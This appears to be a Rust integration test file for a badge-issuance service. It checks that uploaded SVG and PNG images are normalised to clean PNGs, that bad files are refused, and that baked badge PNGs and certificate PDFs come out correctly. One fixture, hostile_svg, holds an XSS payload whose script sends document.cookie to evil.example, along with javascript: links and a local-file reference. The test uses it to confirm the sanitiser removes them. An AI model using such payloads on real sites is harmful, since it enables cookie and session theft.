//! Badge images and what recipients download, through the real router:
//! uploads (REST and the dashboard's form) normalised to one PNG served
//! from our origin, the Open Badges baked PNG, and the certificate PDF,
//! each judged by an outside reader (Pillow, pypdf).

use issuance::api_keys::Scope;
use issuance::orgs::{Plan, Role};
use reqwest::StatusCode;
use reqwest::header::{ACCEPT, CONTENT_DISPOSITION, CONTENT_TYPE, LOCATION, ORIGIN};
use serde_json::{Value, json};
use tokio::process::Command;

use crate::helpers::{TestApp, badge, decode_part, html, issue_badge, json, org_with_badge, spawn_app};

const CHECKS: &str = concat!(env!("CARGO_MANIFEST_DIR"), "/tests/fixtures/file_checks.py");

/// What `file_checks.py` (Pillow or pypdf) reads in `bytes`.
async fn judge(kind: &str, bytes: &[u8]) -> Value {
    let dir = tempfile::tempdir().unwrap();
    let path = dir.path().join("file");
    std::fs::write(&path, bytes).unwrap();
    let out = Command::new("python3")
        .args([CHECKS, kind, &path.display().to_string()])
        .output()
        .await
        .expect("python3 runs (scripts/test installs Pillow and pypdf)");
    assert!(out.status.success(), "{kind} check: {}", String::from_utf8_lossy(&out.stderr));
    serde_json::from_slice(&out.stdout).unwrap()
}

async fn put_image(app: &TestApp, key: &str, badge: &str, body: Vec<u8>, mime: &str) -> reqwest::Response {
    app.client
        .put(app.url(&format!("/v1/badges/{badge}/image")))
        .header("x-api-key", key)
        .header(CONTENT_TYPE, mime)
        .body(body)
        .send()
        .await
        .unwrap()
}

async fn bytes(app: &TestApp, path: &str) -> (StatusCode, String, Vec<u8>) {
    let r = app.client.get(app.url(path)).send().await.unwrap();
    let kind = r.headers().get(CONTENT_TYPE).map(|v| v.to_str().unwrap().to_owned()).unwrap_or_default();
    (r.status(), kind, r.bytes().await.unwrap().to_vec())
}

/// An SVG with a script, an outside link and a local file reference: none
/// may survive, and the green square must.
fn hostile_svg(local_file: &std::path::Path) -> Vec<u8> {
    format!(
        r##"<?xml version="1.0"?>
<svg xmlns="http://www.w3.org/2000/svg" xmlns:xlink="http://www.w3.org/1999/xlink" viewBox="0 0 20 10" onload="alert(1)">
  <script>fetch('https://evil.example/?c=' + document.cookie)</script>
  <rect width="20" height="10" fill="#00a000"/>
  <image x="0" y="0" width="20" height="10" xlink:href="{}"/>
  <a xlink:href="javascript:alert(2)"><text x="1" y="5">x</text></a>
</svg>"##,
        local_file.display()
    )
    .into_bytes()
}

#[tokio::test]
async fn an_svg_upload_is_served_as_a_clean_png_from_our_origin_and_named_by_credentials_issued_after() {
    let app = spawn_app().await;
    let (org, badge_id) = org_with_badge(&app, Plan::Professional).await;
    let key = app.api_key(&org, &[Scope::CredentialsRead, Scope::CredentialsWrite]).await;
    let before = issue_badge(&app, &org, &badge_id, "Early Bird", "early@example.com").await;
    // A red file the SVG names by path: reading it would paint the image red.
    let dir = tempfile::tempdir().unwrap();
    let local = dir.path().join("secret.png");
    image::RgbaImage::from_pixel(4, 4, image::Rgba([255, 0, 0, 255])).save(&local).unwrap();

    let (status, b) = json(put_image(&app, &key, &badge_id, hostile_svg(&local), "image/svg+xml").await).await;
    assert_eq!(status, StatusCode::OK, "{b}");
    let own = format!("http://laurel.test/badges/{badge_id}/image.png");
    assert_eq!(b["image_url"], own.as_str());

    let (status, kind, png) = bytes(&app, &format!("/badges/{badge_id}/image.png")).await;
    assert_eq!((status, kind.as_str()), (StatusCode::OK, "image/png"));
    let seen = judge("png", &png).await;
    assert_eq!(
        (seen["format"].as_str(), seen["width"].as_u64(), seen["height"].as_u64()),
        (Some("PNG"), Some(512), Some(512))
    );
    let text = String::from_utf8_lossy(&png).to_lowercase();
    assert!(!text.contains("script") && !text.contains("evil") && !text.contains("javascript"));
    let img = image::load_from_memory(&png).unwrap().into_rgba8();
    let centre = img.get_pixel(256, 256).0;
    assert_eq!(centre, [0, 160, 0, 255], "the square is drawn and the named file is not");
    assert_eq!(img.get_pixel(256, 10).0[3], 0, "a wide image is centred on transparency");

    let after = issue_badge(&app, &org, &badge_id, "Late Owl", "late@example.com").await;
    let image_of = |id: String| {
        let db = app.db.clone();
        async move {
            let jwt: String = sqlx::query_scalar("SELECT signed_payload FROM credentials WHERE id = $1")
                .bind(&id)
                .fetch_one(&db)
                .await
                .unwrap();
            decode_part(&jwt, 1)["credentialSubject"]["achievement"]["image"].clone()
        }
    };
    assert_eq!(image_of(after).await, json!({"id": own, "type": "Image"}));
    assert_eq!(image_of(before).await, Value::Null, "a credential keeps what it was signed with");
}

#[tokio::test]
async fn a_png_upload_is_normalised_and_bad_files_are_refused_naming_the_field() {
    let app = spawn_app().await;
    let (org, badge_id) = org_with_badge(&app, Plan::Professional).await;
    let key = app.api_key(&org, &[Scope::CredentialsWrite]).await;
    let mut tall = Vec::new();
    image::DynamicImage::ImageRgba8(image::RgbaImage::from_pixel(100, 300, image::Rgba([10, 20, 200, 255])))
        .write_to(&mut std::io::Cursor::new(&mut tall), image::ImageFormat::Png)
        .unwrap();
    let r = put_image(&app, &key, &badge_id, tall, "image/png").await;
    assert_eq!(r.status(), StatusCode::OK);
    let (_, _, png) = bytes(&app, &format!("/badges/{badge_id}/image.png")).await;
    let img = image::load_from_memory(&png).unwrap().into_rgba8();
    assert_eq!((img.width(), img.height(), img.get_pixel(256, 256).0), (512, 512, [10, 20, 200, 255]));

    for (body, says) in [
        (b"GIF89a\x01\x00\x01\x00".to_vec(), "must be a PNG or SVG image"),
        (Vec::new(), "is empty"),
        (b"\x89PNG\r\n\x1a\n\0\0\0\rIHDR".to_vec(), "is not a readable PNG"),
        (b"<svg xmlns='http://www.w3.org/2000/svg'><g></svg>".to_vec(), "is not a readable SVG"),
    ] {
        let (status, e) = json(put_image(&app, &key, &badge_id, body, "image/png").await).await;
        assert_eq!(status, StatusCode::BAD_REQUEST, "{e}");
        assert_eq!(e["error"]["code"], "validation_failed");
        assert_eq!(e["error"]["details"][0]["path"], "image", "{e}");
        assert!(e["error"]["message"].as_str().unwrap().contains(says), "{e}");
    }
    let (status, _, after) = bytes(&app, &format!("/badges/{badge_id}/image.png")).await;
    assert_eq!((status, after == png), (StatusCode::OK, true), "a refused file leaves the image as it was");

    // Another org's badge is not found; a key without write scope is refused.
    let other = app.org("Other", Plan::Professional).await;
    let other_key = app.api_key(&other, &[Scope::CredentialsWrite]).await;
    let r = put_image(&app, &other_key, &badge_id, b"<svg/>".to_vec(), "image/svg+xml").await;
    assert_eq!(r.status(), StatusCode::NOT_FOUND);
    let read_only = app.api_key(&org, &[Scope::CredentialsRead]).await;
    let r = put_image(&app, &read_only, &badge_id, b"<svg/>".to_vec(), "image/svg+xml").await;
    assert_eq!(r.status(), StatusCode::FORBIDDEN);

    // Pointing the badge at another site's image forgets ours.
    let r = app
        .api(
            reqwest::Method::PATCH,
            &format!("/v1/badges/{badge_id}"),
            &key,
            Some(json!({"image_url": "https://img.example/b.png"})),
        )
        .await;
    assert_eq!(r.status(), StatusCode::OK);
    let stored: i64 = sqlx::query_scalar("SELECT COUNT(*) FROM badge_images WHERE badge_id = $1")
        .bind(&badge_id)
        .fetch_one(&app.db)
        .await
        .unwrap();
    assert_eq!(stored, 0);
}

#[tokio::test]
async fn the_dashboard_form_uploads_for_admins_and_shows_a_refusal_beside_the_badge() {
    let app = spawn_app().await;
    let org = app.org("Acme", Plan::Professional).await;
    let badge_id = badge(&app, &org, "Safety").await;
    app.member(&org, "admin@example.com", Role::Admin).await;
    app.member(&org, "issuer@example.com", Role::Issuer).await;
    let post = |client: reqwest::Client, file: Vec<u8>, name: &'static str| {
        let url = app.url(&format!("/organizations/{org}/badges/{badge_id}/image"));
        let origin = app.public_url.clone();
        async move {
            let form = reqwest::multipart::Form::new().part(
                "image",
                reqwest::multipart::Part::bytes(file).file_name(name).mime_str("image/svg+xml").unwrap(),
            );
            client.post(url).header(ORIGIN, origin).header(ACCEPT, "text/html").multipart(form).send().await.unwrap()
        }
    };
    let svg = br##"<svg xmlns="http://www.w3.org/2000/svg" viewBox="0 0 1 1"><rect width="1" height="1" fill="#123456"/></svg>"##;

    let issuer = app.signed_in("issuer@example.com").await;
    assert_eq!(
        post(issuer, svg.to_vec(), "b.svg").await.status(),
        StatusCode::FORBIDDEN,
        "Issuers do not manage badges"
    );

    let admin = app.signed_in("admin@example.com").await;
    let r = post(admin.clone(), b"name,email\n".to_vec(), "people.csv").await;
    assert_eq!(r.status(), StatusCode::SEE_OTHER);
    assert_eq!(r.headers()[LOCATION], format!("/organizations/{org}/badges#badge-{badge_id}").as_str());
    let page = html(&app, &admin, &format!("/organizations/{org}/badges")).await;
    assert!(page.contains("The file must be a PNG or SVG image; this file is neither."), "{page}");
    let again = html(&app, &admin, &format!("/organizations/{org}/badges")).await;
    assert!(!again.contains("this file is neither"), "the refusal is shown once");

    let r = post(admin.clone(), svg.to_vec(), "b.svg").await;
    assert_eq!(r.headers()[LOCATION], format!("/organizations/{org}/badges?notice=badge_image_saved").as_str());
    let page = html(&app, &admin, &format!("/organizations/{org}/badges")).await;
    assert!(page.contains(&format!(r#"src="/badges/{badge_id}/image.png""#)), "the list shows the image");
    let (_, _, png) = bytes(&app, &format!("/badges/{badge_id}/image.png")).await;
    assert_eq!(image::load_from_memory(&png).unwrap().into_rgba8().get_pixel(5, 5).0, [0x12, 0x34, 0x56, 255]);
}

#[tokio::test]
async fn the_baked_png_holds_the_credentials_jwt_in_an_uncompressed_itxt_chunk_and_still_decodes() {
    let app = spawn_app().await;
    let (org, badge_id) = org_with_badge(&app, Plan::Professional).await;
    // No upload: the badge's default image is baked.
    let id = issue_badge(&app, &org, &badge_id, "Jane Doe", "jane@example.com").await;
    let jwt: String = sqlx::query_scalar("SELECT signed_payload FROM credentials WHERE id = $1")
        .bind(&id)
        .fetch_one(&app.db)
        .await
        .unwrap();

    let r = app.client.get(app.url(&format!("/credentials/{id}/badge.png"))).send().await.unwrap();
    assert_eq!(r.status(), StatusCode::OK);
    assert_eq!(r.headers()[CONTENT_TYPE], "image/png");
    assert_eq!(r.headers()[CONTENT_DISPOSITION], format!("attachment; filename=\"{id}.png\"").as_str());
    let baked = judge("png", &r.bytes().await.unwrap()).await;
    assert_eq!((baked["width"].as_u64(), baked["height"].as_u64()), (Some(512), Some(512)), "{baked}");
    assert_eq!(
        baked["itxt"],
        json!([{"keyword": "openbadgecredential", "compressed": false, "text": jwt}]),
        "one iTXt chunk, the credential exactly"
    );

    // A credential that is not a badge has no image to bake.
    let key = app.api_key(&org, &[Scope::CredentialsWrite]).await;
    let (_, c) = json(app.post_json("/v1/credentials", &key, crate::helpers::business()).await).await;
    let r =
        app.client.get(app.url(&format!("/credentials/{}/badge.png", c["id"].as_str().unwrap()))).send().await.unwrap();
    assert_eq!(r.status(), StatusCode::NOT_FOUND);
    let r = app.client.get(app.url("/credentials/cred_01NOSUCH0000000000000000000/badge.png")).send().await.unwrap();
    assert_eq!(r.status(), StatusCode::NOT_FOUND);
}

#[tokio::test]
async fn the_certificate_is_one_page_in_either_paper_size_and_says_when_a_credential_is_revoked() {
    let app = spawn_app().await;
    let (org, badge_id) = org_with_badge(&app, Plan::Professional).await;
    let id = issue_badge(&app, &org, &badge_id, "Chloé García-O'Brien", "chloe@example.com").await;
    let url = format!("/credentials/{id}/certificate.pdf");

    for (paper, size) in [("a4", [595.28, 841.89]), ("letter", [612.0, 792.0])] {
        let r = app.client.get(app.url(&format!("{url}?paper={paper}"))).send().await.unwrap();
        assert_eq!(r.status(), StatusCode::OK);
        assert_eq!(r.headers()[CONTENT_TYPE], "application/pdf");
        assert_eq!(r.headers()[CONTENT_DISPOSITION], format!("attachment; filename=\"{id}-{paper}.pdf\"").as_str());
        let pdf = judge("pdf", &r.bytes().await.unwrap()).await;
        assert_eq!(pdf["pages"], 1);
        assert_eq!(pdf["mediabox"], json!(size));
        let text = pdf["text"].as_str().unwrap();
        for expected in
            ["Safety", "Chloé García-O'Brien", "Issued by Acme on", &format!("http://laurel.test/credentials/{id}")]
        {
            assert!(text.contains(expected), "{expected:?} not in {text:?}");
        }
        assert!(!text.contains("REVOKED"));
        assert_eq!(pdf["title"], "Safety — Chloé García-O'Brien");
    }
    let r = app.client.get(app.url(&format!("{url}?paper=legal"))).send().await.unwrap();
    assert_eq!(r.status(), StatusCode::BAD_REQUEST);
    assert_eq!(r.text().await.unwrap(), "paper: expected 'a4' or 'letter', got 'legal'");

    issuance::credentials::store::revoke(&app.db, &org, &id, Some("Issued in error"), None).await.unwrap();
    let r = app.client.get(app.url(&url)).send().await.unwrap();
    let pdf = judge("pdf", &r.bytes().await.unwrap()).await;
    assert_eq!((pdf["pages"].as_i64(), pdf["mediabox"].clone()), (Some(1), json!([595.28, 841.89])), "A4 by default");
    assert!(pdf["text"].as_str().unwrap().contains("REVOKED"), "{}", pdf["text"]);
}
